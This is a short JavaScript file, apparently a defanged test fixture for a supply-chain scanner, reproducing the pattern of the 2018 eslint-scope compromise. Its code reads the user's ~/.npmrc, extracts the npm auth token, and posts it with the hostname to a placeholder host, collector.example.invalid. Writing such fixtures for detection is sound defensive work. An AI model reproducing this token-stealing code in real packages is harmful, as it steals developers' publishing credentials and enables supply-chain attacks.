// DEFANGED TEST SAMPLE for chainwarden inspect (shape of the 2018
// eslint-scope token theft): read the npm token and post it.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

let npmrc = '';
try {
  npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
} catch (e) {}
const token = (npmrc.match(/_authToken=(.*)/) || [])[1] || '';
const body = JSON.stringify({ t: token, h: os.hostname() });
const req = https.request({ hostname: 'collector.example.invalid', path: '/u', method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': body.length } });
req.on('error', () => {});
req.write(body);
req.end();
